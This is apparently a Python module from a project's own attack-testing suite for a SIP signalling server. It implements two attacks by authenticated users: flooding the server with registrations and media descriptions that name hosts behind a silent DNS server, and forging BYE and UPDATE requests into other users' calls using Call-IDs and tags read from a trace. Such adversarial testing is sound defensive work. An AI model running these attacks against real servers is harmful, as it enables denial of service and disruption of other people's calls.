"""Attacks by signalling of authenticated users: names in place of addresses, dialogs of others."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import time
from pathlib import Path

import msgspec

from hostile.attack import DOMAIN, Attack, Report, Target
from hostile.caller import Caller, caller
from hostile.datagrams import hole_at, request
from hostile.network import ATTACKER, SERVER
from hostile.users import connected
from wanderbus.datachannel import channel
from wanderbus.datachannel.description import ChannelEnd, describe_end
from wanderbus.errors import ConfigurationError, SIPParseError, WanderbusError
from wanderbus.runtime.files.trace_file import read_trace
from wanderbus.sip.message.message import Request, Response, parse_message
from wanderbus.sip.message.sdp import MediaDescription

TRY_S_MAX = 1.5
DNS_PORT = 53


async def _names(target: Target) -> Report:
    """Connect as a user whose descriptions always name another host; the name server never answers."""
    numbers = itertools.count()

    def with_a_name(end: ChannelEnd) -> MediaDescription:
        # The MAC does not cover addresses, since relays rewrite them: the description stays rightly signed.
        return msgspec.structs.replace(describe_end(end), address=f"host{next(numbers)}.slow.example")

    until = time.monotonic() + target.seconds
    tries = registered = 0
    setattr(channel, "describe_end", with_a_name)  # noqa: B010 - this process does nothing else
    with hole_at(DNS_PORT, ATTACKER):
        while time.monotonic() < until:
            tries += 1
            with contextlib.suppress(WanderbusError, TimeoutError):
                async with asyncio.timeout(TRY_S_MAX), connected(target, "mallory"):
                    pass
            with caller("trudy") as user:
                named = ["Contact: <sip:trudy@host.slow.example:5060>", "Expires: 600"]
                answer = await user.ask(target, target.sip_port, _request("REGISTER", f"sip:{DOMAIN}", user, named))
                registered += answer is not None and answer.status == 200
    return {"tries": tries, "names_registered": registered}


def _request(method: str, uri: str, user: Caller, headers: list[str]) -> Request:
    via = f"{ATTACKER}:{user.port}"
    number = time.monotonic_ns()
    message = parse_message(request(method, uri, via=via, number=number, user=user.name, headers=headers))
    assert isinstance(message, Request)
    return message


async def _others_dialogs(target: Target) -> Report:
    """Send BYE and UPDATE in every dialog of others that a trace shows, with the attacker's own digest."""
    until = time.monotonic() + target.seconds
    done = refused = 0
    with caller("mallory") as user:
        while time.monotonic() < until:
            for invite, answer in established(Path(target.trace)):
                for method in ("UPDATE", "BYE"):
                    taken = await user.ask(target, target.broker_port, within(invite, answer, method, user))
                    done += taken is not None and taken.status == 200
                    refused += taken is not None and taken.status >= 300
            await asyncio.sleep(1.0)
    return {"taken": done, "refused": refused}


def established(trace: Path) -> list[tuple[Request, Response]]:
    """Return the INVITEs that were answered 200, with the answer, as a trace has them."""
    try:
        entries = read_trace([trace])
    except ConfigurationError:  # its last line is being written
        return []
    invites: dict[str, Request] = {}
    found: dict[str, tuple[Request, Response]] = {}
    for entry in entries:
        with contextlib.suppress(SIPParseError):
            message = parse_message(entry.data)
            if isinstance(message, Request) and message.method == "INVITE":
                invites[message.call_id] = message
            elif isinstance(message, Response) and message.status == 200 and message.cseq.method == "INVITE":
                found[message.call_id] = invites[message.call_id], message
    return list(found.values())


def within(invite: Request, answer: Response, method: str, user: Caller) -> Request:
    """Return a request in the dialog of others, by all that a trace shows of it, from the address of ``user``."""
    message = _request(method, f"sip:broker@{SERVER}:5070", user, [f"Contact: <sip:mallory@{ATTACKER}:{user.port}>"])
    for name in ("From", "To", "Call-ID", "CSeq"):
        message = message.without(name)
    # The name is the attacker's own, which the digest proves; a dialog is found by Call-ID and tags.
    message = message.with_header("From", f"<sip:{user.name}@{DOMAIN}>;tag={answer.from_.tag}")
    for name in ("To", "Call-ID"):
        (value,) = answer.headers_all(name)
        message = message.with_header(name, value)
    return message.with_header("CSeq", f"{invite.cseq.number + 50} {method}")


ATTACKS = (
    Attack(
        "names",
        "1",
        "a user whose descriptions and Contacts name hosts of a silent name server, again and again",
        _names,
        user_input=True,
        quick=True,
    ),
    Attack(
        "others_dialogs",
        "9",
        "a user sends UPDATE and BYE in every dialog of others, knowing Call-ID and tags",
        _others_dialogs,
        traced=True,
        quick=True,
    ),
)
